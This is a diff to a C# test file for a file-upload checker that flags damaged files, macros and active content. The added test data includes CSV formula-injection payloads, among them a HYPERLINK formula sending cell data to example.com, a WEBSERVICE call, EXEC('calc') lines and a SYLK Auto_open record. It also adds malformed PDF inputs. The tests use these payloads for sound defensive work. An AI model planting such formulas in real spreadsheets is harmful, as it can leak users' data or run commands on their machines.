@@ -13,7 +13,7 @@ public sealed class FileCheckTests(ITestOutputHelper output)
     [Fact]
     public void Objects_of_a_pdf_that_never_end_are_refused_at_the_first_one()
     {
-        var pdf = Latin("%PDF-1.7\n" + string.Concat(Enumerable.Repeat("1 0 obj<</Type/ObjStm>>\nstream\n", 50_000)));
+        var pdf = Latin("%PDF-1.7\n" + string.Concat(Enumerable.Repeat("1 0 obj<</Type/ObjStm/Filter/Fl>>\nstream\n", 50_000)));
 
         Assert.Equal(FileRefusal.Damaged, FileCheck.Look("a.pdf", pdf).Refusal);
     }
@@ -47,6 +47,8 @@ public sealed class FileCheckTests(ITestOutputHelper output)
             { "notes.txt", Encoding.UTF8.GetBytes("地块 12 公顷"), "notes.txt" },
             { "notes", Encoding.GetEncoding("GB18030").GetBytes("地块"), "notes.txt" },
             { "wide.txt", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("表")], "wide.txt" },
+            { "ids.csv", Latin("ID;Name\nA;land\nCD;call (evening)\n"), "ids.csv" },
+            { "phones.csv", Latin("name,phone\nA,+994 12 call (evening)\n- image (1),\"a-b\"\n"), "phones.csv" },
             { "prices.csv", Latin("item,price\nland,-3|4\n=A1+B1,2\n"), "prices.csv" },
             // The content tells, not the name.
             { "photo.exe", Jpg, "photo.jpg" },
@@ -97,6 +99,10 @@ public sealed class FileCheckTests(ITestOutputHelper output)
             { "a.txt", Latin("see\n<script>alert(1)</script>"), FileRefusal.Active },
             { "a.txt", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<html>")], FileRefusal.Active },
             { "a.csv", Latin("a,b\n1,=cmd|'/C calc'!A0\n"), FileRefusal.Active },
+            { "a.csv", Latin("a,b\n=HYPERLINK(\"http://example.com/?x=\"&A1;\"see\"),1\n"), FileRefusal.Active },
+            { "a.csv", Latin("a,\"=1+webservice (\"\"http://example.com\"\")\"\n"), FileRefusal.Active },
+            { "a.csv", Latin("a;b\r-EXEC(\"calc\")\r"), FileRefusal.Active },
+            { "a.csv", Latin("ID;P\nO;E\nNN;NAuto_open;ER101C1;KOut Flank;F\nC;X1;Y101;K0;EEXEC(\"CALC.EXE\")\nE\n"), FileRefusal.Active },
             { "a.docx", Docx(("word/vbaProject.bin", "")), FileRefusal.Macros },
             { "a.docx", Office("application/vnd.ms-word.document.macroEnabled.main+xml"), FileRefusal.Macros },
             { "a.xlsx", Xlsx(("xl/macrosheets/sheet1.xml", "")), FileRefusal.Macros },
@@ -175,6 +181,12 @@ public sealed class FileCheckTests(ITestOutputHelper output)
             { "a.pdf", "%PDF-1.7\n", "obj /ObjStm stream\nendstream " },
             { "a.pdf", "%PDF-1.7\n", "#4A" },
             { "a.pdf", "%PDF-1.7\n", "/" },
+            { "a.pdf", "%PDF-1.7\n", "obj<<" },
+            { "a.pdf", "%PDF-1.7\n", "obj%" },
+            { "a.pdf", "%PDF-1.7\n", "/EF%" },
+            { "a.pdf", "%PDF-1.7\n", "obj<</Type/ObjStm/Filter/Fl>>stream\nx\u009c\u0003\0\0\0\0\u0001" },
+            { "a.csv", "ID;", "=\"" },
+            { "a.csv", "ID;", "\nC" },
             { "a.csv", "a", ",=" },
             { "a.txt", "a", " <" },
             { "a.xls", "\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1", "\u0085\0\u0009\0" },
